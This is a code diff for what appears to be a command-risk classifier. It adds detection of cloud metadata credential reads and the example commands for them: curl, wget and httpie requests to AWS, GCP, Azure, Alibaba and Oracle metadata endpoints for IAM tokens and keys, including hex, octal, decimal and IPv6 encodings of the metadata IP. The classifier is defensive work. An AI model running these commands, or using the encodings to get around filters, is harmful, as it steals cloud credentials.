@@ -4,6 +4,7 @@ import { isUnknown } from '../../engine/shell/model.ts';
 import { callVerb, carriesData, isFileAddress, isLocal } from '../addresses.ts';
 import { has, onlyHelp, readOptions, shown, wordList, type Options } from '../argv.ts';
 import { carriedOut, givenTo } from '../carried.ts';
+import { isGreeting, machineCredentials } from '../metadata.ts';
 import { secretFile } from '../secret-paths.ts';
 import { readExamples } from './rules.ts';
 
@@ -16,7 +17,9 @@ interface Call {
 
 /** Drafts of a call to other machines. */
 function calling({ urls, method, body }: Call): readonly ActionDraft[] {
-  const far = urls.filter((url) => !isLocal(url) && !isFileAddress(url));
+  const inside = machineCredentials(urls);
+  if (inside.length > 0) return inside;
+  const far = urls.filter((url) => !isLocal(url) && !isFileAddress(url) && !isGreeting(url));
   if (far.length === 0 && urls.length > 0) return [];
   if (method !== 'GET') return sending(far[0] ?? 'an address not known', { urls, method, body: body ?? '' });
   const carrier = far.find(carriesData);
@@ -132,6 +135,8 @@ function curlReads(urls: readonly string[]): readonly ActionDraft[] {
 const computed: readonly CommandExample[] = [
   { argv: ['curl', '\u0000'], verbs: ['external-send'] },
   { argv: ['curl', 'https://e.example/\u0000'], verbs: ['external-send'] },
+  { argv: ['curl', 'http://169.254.170.2\u0000'], verbs: ['secret-read'] },
+  { argv: ['curl', 'http://\u0000/latest/meta-data/iam/security-credentials/web'], verbs: ['secret-read'] },
   { argv: ['curl', '-H', 'X-Data: \u0000', 'https://e.example'], verbs: ['external-send'] },
   { argv: ['curl', '-H', 'Authorization: Bearer \u0000', 'https://api.github.com/user'], verbs: [] },
   { argv: ['curl', '-LO', 'https://github.com/a/b/releases/download/v\u0000/x.tgz'], verbs: [] },
@@ -172,6 +177,26 @@ export const curl: CommandDef = {
       curl https://api.stripe.com/v1/charges -d amount=1 => payment
       curl -X PUT https://api.github.com/repos/acme/app/pulls/42/merge => merge
       curl -X PUT https://gitlab.com/api/v4/projects/1/merge_requests/2/merge => merge
+      curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web => secret-read
+      curl http://2852039166/latest/meta-data/iam/security-credentials/ => secret-read
+      curl http://0xA9FEA9FE/latest/user-data => secret-read
+      curl http://0251.0376.0251.0376/latest/user-data => secret-read
+      curl http://169.254.43518/latest/user-data => secret-read
+      curl http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/security-credentials/ => secret-read
+      curl http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/web => secret-read
+      curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?resource=x => secret-read
+      curl http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token => secret-read
+      curl http://169.254.170.2/v2/credentials/5d0a => secret-read
+      curl http://100.100.100.200/latest/meta-data/ram/security-credentials/web => secret-read
+      curl http://192.0.0.192/opc/v2/identity/key.pem => secret-read
+      curl http://169.254.169.254/latest/meta-data/instance-id =>
+      curl http://169.254.169.254/latest/meta-data/placement/region =>
+      curl -X PUT http://169.254.169.254/latest/api/token -H X-aws-ec2-metadata-token-ttl-seconds:␣60 =>
+      curl -H Metadata-Flavor:␣Google http://metadata.google.internal/computeMetadata/v1/project/project-id =>
+      curl http://169.254.169.254/metadata/instance/compute/location?api-version=2021-02-01 =>
+      curl https://docs.example.com/latest/meta-data/iam/security-credentials/ =>
+      curl http://localhost:1338/latest/meta-data/iam/security-credentials/web =>
+      curl http://2852039165/x =>
       curl -X DELETE https://api.github.com/repos/acme/app/git/refs/heads/old => delete-branch
       curl -X DELETE https://gitlab.com/api/v4/projects/1/repository/branches/old => delete-branch
       curl -X PATCH https://api.github.com/repos/acme/app/git/refs/heads/main -d {} => force-push
@@ -245,6 +270,8 @@ export const wget: CommandDef = {
     wget --method=PUT --body-file=a https://e.example => external-send
     wget --method DELETE https://e.example/x => external-send
     wget --post-data=a http://localhost.evil.example => external-send
+    wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/web => secret-read
+    wget -qO- http://169.254.169.254/latest/meta-data/ami-id =>
     wget https://example.com/x.tgz =>
     wget -qO- https://example.com =>
     wget --spider -q https://example.com =>
@@ -309,6 +336,8 @@ export const http: CommandDef = {
     xh post https://api.example.com a=b => external-send
     curlie -d a https://api.example.com => external-send
     http PUT https://api.github.com/repos/acme/app/pulls/1/merge => merge
+    http http://169.254.169.254/latest/user-data => secret-read
+    http http://169.254.169.254/latest/meta-data/local-ipv4 =>
     http :3000/api =>
     http POST :3000/api name=x =>
     xh localhost:8080 a=b =>
